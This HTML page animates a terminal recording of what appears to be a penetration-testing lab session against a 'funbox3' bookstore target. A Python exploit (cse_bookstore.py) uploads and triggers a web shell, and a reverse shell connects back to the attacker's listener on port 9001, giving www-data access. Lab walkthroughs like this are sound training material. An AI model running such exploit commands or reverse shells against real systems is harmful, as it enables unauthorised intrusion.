
An HTML page that plays this animation: 1280 by 410 pixels, repeating every 7270 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal session</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #171421; }
  svg { display: block; }
  text {
    font: 14.5px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
    white-space: pre;
    text-rendering: geometricPrecision;
    fill: #d0cfcc;
  }
  .time { fill: #a347ba; font-weight: 700; }
  .red { fill: #c01c28; font-weight: 700; }
  .info { fill: #2a7bde; }
  .star { fill: #12488b; font-weight: 700; }
  .plus { fill: #26a269; font-weight: 700; }
  .cursor { fill: #d0cfcc; }
  .edge { fill: #110e19; }
</style>
</head>
<body>
<svg width="1280" height="410" viewBox="0 0 1280 410">
  <rect class="edge" y="406" width="1280" height="4"/>
  <g id="screen"></g>
</svg>
<script>
const LOOP = 7270, CELL_W = 7.985, CELL_H = 17.5, BASELINE = 14;
const screen = document.getElementById("screen");

// A line is a list of runs: plain strings or [class, text].
const info = s => [["info", "[*]"], " " + s];
const mark = (cls, c, s) => ["[", [cls, c], "] " + s];
const prompt = ["red", "$"];
const shell = "www-data@funbox3:/var/www/html/store/bootstrap/img$ ";
const waiting = "Waiting for connections on :::9001";
const spin = c => mark("star", c, waiting);

// Each step: time, changed lines by row, cursor as [row, column].
const steps = [
  [0, { 0: ["[", ["time", "13:42:26"], "] ", ["red", "Tov-Belkar"],
    ":~/Documents/pg/dawn/custom_expl$ python3 cse_bookstore.py" +
    " -u http://192.168.227.111/store -l 192.168.49.227 -p 9001"] }],
  [200, {}, [0, 137]],
  [330, {}, [1, 0]],
  [730, { 1: info("Checking connection: http://192.168.227.111/store") }],
  [1870, { 2: info("Uploading shell ...") }],
  [3270, { 3: info("Triggering shell ...") }],
  [3730, { 4: mark("plus", "+", "Trying to bind to :: on port 9001: Done"), 5: spin(".") }],
  [3800, { 5: spin("o") }],
  [3930, { 5: spin("O") }],
  [4070, {
    5: mark("plus", "+", waiting + ": Got connection from ::ffff:192.168.227.111 on port 45044"),
    6: mark("star", "*", "Switching to interactive mode")
  }],
  [4130, {
    7: ["bash: cannot set terminal process group (832): Inappropriate ioctl for device"],
    8: [prompt]
  }, [8, 2]],
  [4530, { 8: ["bash: no job control in this shell"], 9: [shell, prompt] }, [9, 54]],
  [5730, { 9: [shell, prompt, " id"] }, [9, 56]],
  [6000, { 10: [prompt] }, [10, 2]],
  [6200, { 10: ["id", prompt] }, [10, 4]],
  [6530, {
    10: ["id"],
    11: ["uid=33(www-data) gid=33(www-data) groups=33(www-data)"],
    12: [shell, prompt]
  }, [12, 54]]
];

function add(tag, attrs, content = "") {
  const el = document.createElementNS("http://www.w3.org/2000/svg", tag);
  for (const key in attrs) el.setAttribute(key, attrs[key]);
  el.textContent = content;
  return screen.appendChild(el);
}

// Set the font on the terminal's character grid.
const probe = add("text", {}, "0".repeat(100));
const spacing = CELL_W - probe.getComputedTextLength() / 100;

function drawLine(row, runs) {
  let col = 0;
  for (const run of runs) {
    const [cls, str] = typeof run === "string" ? ["", run] : run;
    add("text", {
      class: cls, x: col * CELL_W, y: row * CELL_H + BASELINE, "letter-spacing": spacing
    }, str);
    col += str.length;
  }
}

function draw(index) {
  screen.replaceChildren();
  const lines = Object.assign({}, ...steps.slice(0, index + 1).map(s => s[1]));
  for (const row in lines) drawLine(row, lines[row]);
  const cursor = steps[index][2];
  if (cursor) add("rect", {
    class: "cursor", x: cursor[1] * CELL_W, y: cursor[0] * CELL_H,
    width: CELL_W, height: CELL_H
  });
}

let shown = -1;
function tick() {
  const t = performance.now() % LOOP;
  const index = steps.filter(s => s[0] <= t).length - 1;
  if (index !== shown) draw(shown = index);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
